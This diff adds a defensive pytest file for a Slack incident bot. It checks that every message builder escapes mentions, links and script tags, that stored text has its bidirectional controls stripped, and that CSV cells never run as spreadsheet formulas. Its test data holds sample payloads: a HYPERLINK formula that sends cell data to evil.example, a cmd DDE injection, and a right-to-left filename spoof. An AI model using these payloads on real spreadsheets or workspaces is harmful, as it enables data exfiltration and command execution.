@@ -1,0 +1,356 @@
+"""Nothing typed can inject (issue 14, section 3).
+
+Every message builder, swept with a hostile string in every piece of text a person or a sender
+supplies; the builders are found by introspection, so a new one is swept (or must say why not).
+CSV cells never run as spreadsheet formulas and read back as stored; the postmortem draft has
+no HTML and no link but http(s) and mailto; bidirectional controls are never stored.
+"""
+
+from __future__ import annotations
+
+import inspect
+import re
+from collections.abc import Callable, Iterator
+from dataclasses import fields, is_dataclass
+from datetime import date, datetime, timedelta, timezone
+from types import ModuleType, SimpleNamespace
+from typing import Any
+
+import pytest
+from slack_sdk.models.basic_objects import JsonObject
+
+from bot import action_items, blocks, corrections, deploys, digest, messages, runbook_blocks, stats_view, summary
+from bot.action_items import ActionItemRecord
+from bot.deploys import DeployMatch, DeployRecord, deploy_line
+from bot.phases import Phase, Stamp, StampValue, Timeline
+from bot.records import IncidentRecord, WarRoomContext
+from bot.stats import build_report, weekly_trend
+from bot.stats_view import TextStyle
+from bot.text_input import escape, spreadsheet_cell, spreadsheet_text, storable
+from bot.tiers import TierTables
+from tests.incident_facts import facts_from_minutes
+
+# What someone types when they mean harm (or only mean "@channel"), as the bot stores it.
+HOSTILE = "<!channel> <!here> <!everyone> <@U0HOSTILE> <http://evil.example|x> & <script>"
+# Any of these in text Slack renders would notify, mention or link for real.
+LIVE = re.compile(r"<!channel>|<!here>|<!everyone>|<@U0HOSTILE|<http://evil|<script>", re.IGNORECASE)
+ESCAPED_TWICE = re.compile(r"&amp;(?:amp|lt|gt);")
+SHOWN_ESCAPED = "&lt;!channel&gt; &lt;!here&gt;"
+
+T0 = datetime(2026, 11, 23, 14, 0, tzinfo=timezone.utc)
+TIERS = TierTables.default()
+MRKDWN = TextStyle(mrkdwn=True)
+
+
+def injections(text: str) -> list[str]:
+    """What in ``text`` Slack would render as a live mention or link, or shows as ``&amp;lt;``."""
+    return LIVE.findall(text) + ESCAPED_TWICE.findall(text)
+
+
+# Keys of Block Kit and view objects that Slack never renders as mrkdwn or message text.
+NOT_RENDERED = {
+    "action_id", "block_id", "callback_id", "value", "private_metadata", "initial_value", "type", "initial_user",
+    "initial_date_time", "initial_date", "style", "hash", "external_id", "max_length",
+}
+
+
+def rendered_texts(output: Any) -> Iterator[str]:
+    """Every string of a builder's output that Slack renders with mrkdwn rules or as message text.
+    ``plain_text`` objects are skipped: Slack shows them as typed, never as a mention or a link."""
+    if isinstance(output, str):
+        yield output
+    elif isinstance(output, JsonObject):
+        yield from rendered_texts(output.to_dict())
+    elif isinstance(output, dict):
+        if output.get("type") == "plain_text":
+            return
+        for key, value in output.items():
+            if key not in NOT_RENDERED:
+                yield from rendered_texts(value)
+    elif isinstance(output, (list, tuple)):
+        for value in output:
+            yield from rendered_texts(value)
+    elif isinstance(output, digest.Digest):
+        yield from rendered_texts([output.blocks, output.fallback])  # .text is the terminal's (--dry-run)
+
+
+# ---------------------------------------------------------------------------------------------
+# Hostile inputs, one per kind of parameter
+
+
+def hostile_incident(*, restored: bool = True) -> IncidentRecord:
+    stamps = {
+        Stamp.DETECTED: StampValue(T0 + timedelta(minutes=5), "U_ALICE"),
+        Stamp.DIAGNOSED: StampValue(T0 + timedelta(minutes=15), None, implied=True),
+        Stamp.MITIGATED: StampValue(T0 + timedelta(minutes=25), "U_BOB"),
+    }
+    if restored:
+        stamps[Stamp.VERIFIED] = StampValue(T0 + timedelta(minutes=40), "U_BOB")
+    return IncidentRecord(
+        id=7, title=HOSTILE, severity="P1", service=HOSTILE, status="resolved" if restored else "open",
+        detection_method="engineer", opened_by="U_ALICE", commander="U_ALICE", channel_id="C0WARROOM",
+        channel_name="inc-7", control_message_ts="1700000000.000100", timeline=Timeline(T0, stamps), created_at=T0,
+        rollback_owner="U_BOB", acknowledged_at=T0 + timedelta(minutes=2), acknowledged_by="U_BOB",
+    )
+
+
+def hostile_deploy() -> DeployMatch:
+    record = DeployRecord(
+        id=3, service=HOSTILE, version=HOSTILE, environment=HOSTILE, deployed_at=T0, author=HOSTILE,
+        url="https://ci.example/pull/1?x=<!channel>|<http://evil.example|x>", description=HOSTILE, source="webhook",
+        recorded_at=T0,
+    )
+    return DeployMatch(record, 12)
+
+
+def hostile_action_item() -> ActionItemRecord:
+    return ActionItemRecord(
+        id=1, incident_id=7, incident_private=False, text=HOSTILE, owner="U_BOB", due=date(2026, 11, 30), status="open",
+        created_by="U_ALICE", done_by=None, done_at=None,
+    )
+
+
+def hostile_facts():
+    """Four weeks of incidents on a service with a hostile name, a few still open."""
+    return [
+        facts_from_minutes(n + 1, T0 - timedelta(days=2 * n), (2, 10, 5, 3), severity="P2", service=HOSTILE,
+                           stamps=4 if n % 5 else 1)
+        for n in range(14)
+    ]
+
+
+def hostile_report():
+    return build_report(hostile_facts(), since=T0 - timedelta(days=30), until=T0, now=T0, tiers=TIERS)
+
+
+def hostile_trend():
+    return weekly_trend(hostile_facts(), now=T0)
+
+
+def hostile_digest_incident():
+    return digest.digest_incident(hostile_facts()[1], title=HOSTILE, tiers=TIERS)
+
+
+def hostile_correction_records():
+    return [SimpleNamespace(action="correct_time", old_value=T0.isoformat(), new_value=(T0 + timedelta(minutes=1)).isoformat(),
+                            field="mitigated_at", actor="U_ALICE", at=T0, reason=HOSTILE)]
+
+
+# Parameters whose value the bot builds itself (an ID it validated, a Slack date token, a line
+# another swept builder rendered): a valid sample. Every other text parameter gets HOSTILE.
+BOT_BUILT: dict[str, Any] = {
+    "reference": "INC-7", "user": "U_ALICE", "by": "U_ALICE", "owner": "U_BOB", "earlier_by": "U_BOB",
+    "who": "the incident commander", "channel_id": "C0WARROOM", "severity": "P1", "before": "P2", "after": "5 min",
+    "stamp": "mitigated", "at_token": "<!date^1763906400^{time}|14:00 UTC>", "earlier_token": "<!date^1763906400^{time}|14:00 UTC>",
+    "closed_token": "<!date^1763906400^{time}|14:00 UTC>", "ends_token": "<!date^1763906400^{time}|14:00 UTC>",
+    "since_detection": "5 min", "restore": "1 h", "within": "2 h", "window": "30 min", "quiet": "30 min",
+    "why": "nobody acknowledged it within 5 min", "targets": "<@U_BOB> and <!subteam^S0ONCALL>",
+    "described": "*mitigated* from 14:00 UTC to 14:05 UTC", "which": "open", "scope": "in INC-7", "what": "The update",
+    "label": "Commander", "role": "commander", "post_id": 4, "chunk": 0, "item_id": 9, "deploy_id": 3,
+    # Lines that swept builders render (deploy_line, ActionItemRecord.line, correction_notes, the failures of a step).
+    "line": deploy_line(hostile_deploy()), "done_line": "Done by <@U_BOB>",
+    "lines": [deploy_line(hostile_deploy()), hostile_action_item().line(date(2026, 11, 23))],
+    "failures": ["the war room was not told (channel_not_found)"], "done": ["created <#C0WARROOM>"],
+    "corrections": corrections.correction_notes(hostile_correction_records()),
+    "labels": {name: label for name, (_, label) in corrections.TIME_FIELDS.items()}, "war_rooms": {1: "C0WARROOM"}, "checked": {0}, "private_metadata": {"channel_id": "C0WARROOM"},
+    "group_resolved": True, "still_open": True, "implied": False, "created": True, "private": False,
+    "confidence": 0.95, "min_count": 5, "count": 3, "seconds": 125.0, "fraction": 0.25, "low": 60.0, "high": 600.0,
+    "per_week": 3, "detectable": 0.4, "now": T0, "week_start": T0 - timedelta(days=7), "start": T0,
+    "percentiles": True, "interval": True, "mrkdwn": True, "limit": 3000, "max_lines": 25,
+    "grouping": "service", "by": "service", "of": "incidents", "today": date(2026, 11, 23),
+    "records": hostile_correction_records(),
+}
+
+# The rest by annotation (as written in the source: the modules use postponed annotations).
+BY_ANNOTATION: dict[str, Callable[[], Any]] = {
+    "str": lambda: HOSTILE,
+    "str | None": lambda: HOSTILE,
+    "list[str]": lambda: [HOSTILE, "payments-api"],
+    "Sequence[str]": lambda: [HOSTILE],
+    "tuple[str, ...]": lambda: (HOSTILE, "Check the dashboard"),
+    "dict[str, str]": lambda: {HOSTILE: HOSTILE},
+    "list[tuple[str, str]] | None": lambda: [("deploy:3", HOSTILE)],
+    "list[tuple[str, str]]": lambda: [("deploy:3", HOSTILE)],
+    "IncidentRecord": hostile_incident,
+    "WarRoomContext | None": lambda: WarRoomContext(
+        team=HOSTILE, upstream=(HOSTILE,), downstream=(HOSTILE,), deploy_lines=(deploy_line(hostile_deploy()),), deploy_window="2 h"
+    ),
+    "MttrSummary": lambda: summary.summarize(hostile_incident(), TIERS),
+    "DeployRecord": lambda: hostile_deploy().record,
+    "DeployRecord | DeployMatch": hostile_deploy,
+    "list[ActionItemRecord]": lambda: [hostile_action_item()],
+    "dict[str, datetime]": lambda: corrections.current_times(hostile_incident()),
+    "datetime": lambda: T0,
+    "TextStyle": lambda: MRKDWN,
+    "WindowReport": hostile_report,
+    "Trend": hostile_trend,
+    "Trend | None": hostile_trend,
+    "Measures": lambda: hostile_report().overall,
+    "Figure": lambda: hostile_report().overall.time_to_restore,
+    "Share": lambda: hostile_report().customer_reported,
+    "Phase": lambda: Phase.DIAGNOSE,
+    "OpenIncident": lambda: hostile_report().open_incidents[0],
+    "Sequence[OpenIncident]": lambda: hostile_report().open_incidents,
+    "Sequence[DigestIncident]": lambda: [hostile_digest_incident()],
+    "Mapping[int, str] | None": lambda: {1: "C0WARROOM"},
+    "Mapping[int, str]": lambda: {1: "C0WARROOM"},
+    "WeekFigure": lambda: hostile_trend().weeks[-2],
+    "WeekChange": lambda: hostile_trend().changes[-1],
+    "float | None": lambda: 0.4,
+    "int": lambda: 3,
+}
+
+BUILDER_MODULES: tuple[ModuleType, ...] = (
+    messages, blocks, summary, runbook_blocks, stats_view, digest, deploys, action_items, corrections,
+)
+
+# Public functions of those modules that build nothing Slack renders, and why.
+NOT_SLACK_TEXT = {
+    "bot.blocks.stamp_action_id": "an action id",
+    "bot.blocks.role_action_id": "an action id",
+    "bot.blocks.within_message_limits": "a check of blocks built elsewhere",
+    "bot.blocks.header_text": "the text of a plain_text header (Slack shows it as typed)",
+    "bot.summary.summarize": "figures, no text",
+    "bot.summary.bar": "a bar of block characters",
+    "bot.summary.percent": "a number",
+    "bot.runbook_blocks.checklist_block_id": "a block id",
+    "bot.runbook_blocks.parse_checklist_block_id": "a parser",
+    "bot.runbook_blocks.ticked_in_message": "a parser",
+    "bot.stats_view.duration_text": "a number",
+    "bot.stats_view.percent": "a number",
+    "bot.stats_view.confidence_label": "a number",
+    "bot.stats_view.interval_text": "numbers",
+    "bot.stats_view.completed_change": "figures, no text",
+    "bot.stats_view.change_for_week": "figures, no text",
+    "bot.stats_view.report_table": "the terminal's plain text (incident-bot report)",
+    "bot.stats_view.report_csv": "a CSV file: test_every_csv_cell_that_a_spreadsheet_would_run_is_quoted",
+    "bot.stats_view.figure_json": "JSON for the terminal",
+    "bot.stats_view.measures_json": "JSON for the terminal",
+    "bot.stats_view.trend_json": "JSON for the terminal",
+    "bot.stats_view.report_json": "JSON for the terminal",
+    "bot.digest.iso_week_label": "a week label",
+    "bot.digest.weeks_in_iso_year": "a number",
+    "bot.digest.digest_week": "dates",
+    "bot.digest.digest_incident": "data for build_digest (swept through it)",
+    "bot.digest.incidents_per_week": "a number",
+    "bot.deploys.parse_deploy": "a parser",
+    "bot.deploys.validation_reason": "the webhook's JSON answer",
+    "bot.deploys.to_record": "data",
+    "bot.deploys.minutes_before": "a number",
+    "bot.deploys.select_in_window": "data",
+    "bot.deploys.parse_deploy_text": "a parser",
+    "bot.deploys.parse_deploys_text": "a parser",
+    "bot.deploys.deploy_summary": "plain text for the open form's options and the terminal",
+    "bot.deploys.link_label": "one of PR, commit, link",
+    "bot.deploys.impact_distance": "a number",
+    "bot.action_items.parse_action_text": "a parser",
+    "bot.corrections.current_times": "data",
+    "bot.corrections.utc_text": "a time",
+    "bot.corrections.plan_correction": "data",
+}
+
+
+def builders() -> list[tuple[str, Callable[..., Any]]]:
+    found = []
+    for module in BUILDER_MODULES:
+        for name, function in vars(module).items():
+            if inspect.isfunction(function) and function.__module__ == module.__name__ and not name.startswith("_"):
+                found.append((f"{module.__name__}.{name}", function))
+    return found
+
+
+SWEPT = [(name, function) for name, function in builders() if name not in NOT_SLACK_TEXT]
+
+
+def hostile_arguments(name: str, function: Callable[..., Any]) -> tuple[list[Any], dict[str, Any]]:
+    args: list[Any] = []
+    kwargs: dict[str, Any] = {}
+    for parameter in inspect.signature(function).parameters.values():
+        if parameter.name in BOT_BUILT:
+            value = BOT_BUILT[parameter.name]
+        elif parameter.annotation in BY_ANNOTATION:
+            value = BY_ANNOTATION[parameter.annotation]()
+        elif parameter.default is not inspect.Parameter.empty:
+            continue
+        else:
+            pytest.fail(
+                f"{name}: no hostile value for parameter {parameter.name!r} ({parameter.annotation}); add it to BOT_BUILT "
+                "(a value the bot builds) or BY_ANNOTATION (text or records that carry what someone typed)"
+            )
+        if parameter.kind is inspect.Parameter.KEYWORD_ONLY:
+            kwargs[parameter.name] = value
+        else:
+            args.append(value)
+    return args, kwargs
+
+
+def test_the_sweep_finds_the_builders():
+    names = {name for name, _ in SWEPT}
+    assert len(SWEPT) > 90
+    for expected in ("bot.messages.escalation_announcement", "bot.blocks.control_message", "bot.summary.summary_blocks",
+                     "bot.runbook_blocks.runbook_message", "bot.stats_view.home_view", "bot.digest.build_digest",
+                     "bot.deploys.deploy_line", "bot.corrections.correction_notes"):
+        assert expected in names
+    assert not set(NOT_SLACK_TEXT) - {name for name, _ in builders()}, "NOT_SLACK_TEXT names a function that is gone"
+
+
+@pytest.mark.parametrize("name, function", SWEPT, ids=[name for name, _ in SWEPT])
+def test_every_message_builder_escapes_what_people_typed(name, function):
+    args, kwargs = hostile_arguments(name, function)
+    output = function(*args, **kwargs)
+    for text in rendered_texts(output):
+        assert not injections(text), f"{name} renders {injections(text)} live: {text!r}"
+
+
+def test_the_sweep_sees_the_hostile_text_arrive_escaped():
+    """The sweep is not vacuous: the builders that echo a title, a note or a name show it escaped."""
+    echoed = set()
+    for name, function in SWEPT:
+        args, kwargs = hostile_arguments(name, function)
+        if any(SHOWN_ESCAPED in text for text in rendered_texts(function(*args, **kwargs))):
+            echoed.add(name)
+    for expected in ("bot.messages.escalation_dm", "bot.messages.escalation_announcement", "bot.messages.update_announcement",
+                     "bot.messages.role_dm", "bot.messages.breakglass_in_war_room", "bot.messages.alert_refiring_line",
+                     "bot.blocks.notification_text", "bot.blocks.channel_topic", "bot.blocks.announcement_blocks",
+                     "bot.blocks.control_message", "bot.summary.summary_blocks", "bot.runbook_blocks.runbook_message",
+                     "bot.digest.build_digest", "bot.deploys.deploy_line", "bot.corrections.correction_notes"):
+        assert expected in echoed, f"{expected} did not show the hostile text (escaped)"
+
+
+def test_escape_is_slacks_three_characters_once():
+    assert escape("a & b <!channel> <@U1> > c") == "a &amp; b &lt;!channel&gt; &lt;@U1&gt; &gt; c"
+    assert escape("@here *bold* `code` 'quote' \"dq\"") == "@here *bold* `code` 'quote' \"dq\""
+
+
+def test_a_topic_is_clipped_without_cutting_an_entity_in_two():
+    incident = hostile_incident()
+    for title in ("&" * 300, "<" * 300, "a&b" * 100):
+        topic = blocks.channel_topic(IncidentRecord(**{**{f.name: getattr(incident, f.name) for f in fields(incident)}, "title": title}))
+        assert len(topic) <= blocks.MAX_TOPIC
+        clipped = topic.split(" | ")[1]
+        assert clipped.endswith("…")
+        assert re.fullmatch(r"(?:&amp;|&lt;|a|b)*…", clipped), clipped
+
+
+# ---------------------------------------------------------------------------------------------
+# Display spoofing
+
+BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
+
+
+def test_storable_removes_bidirectional_controls_and_keeps_the_rest():
+    assert storable(f"INC \u202eexe.fdp\u202c{BIDI} ok\x00") == "INC exe.fdp ok"
+    assert storable("שלום עולם · مرحبا · tab\tand\nline") == "שלום עולם · مرحبا · tab\tand\nline"  # RTL text stays
+    assert storable("zero\u200dwidth joiner 👩\u200d💻") == "zero\u200dwidth joiner 👩\u200d💻"  # emoji sequences stay
+
+
+# ---------------------------------------------------------------------------------------------
+# Spreadsheet formulas
+
+
+@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
+                                  "\tx", "\rx", "'=already quoted", "''@twice", "'plain", "plain", "", "-"])
+def test_a_spreadsheet_cell_never_starts_a_formula_and_reads_back_as_stored(text):
+    cell = spreadsheet_cell(text)
+    assert not re.match(r"[=+\-@\t\r]", cell)
+    assert spreadsheet_text(cell) == text
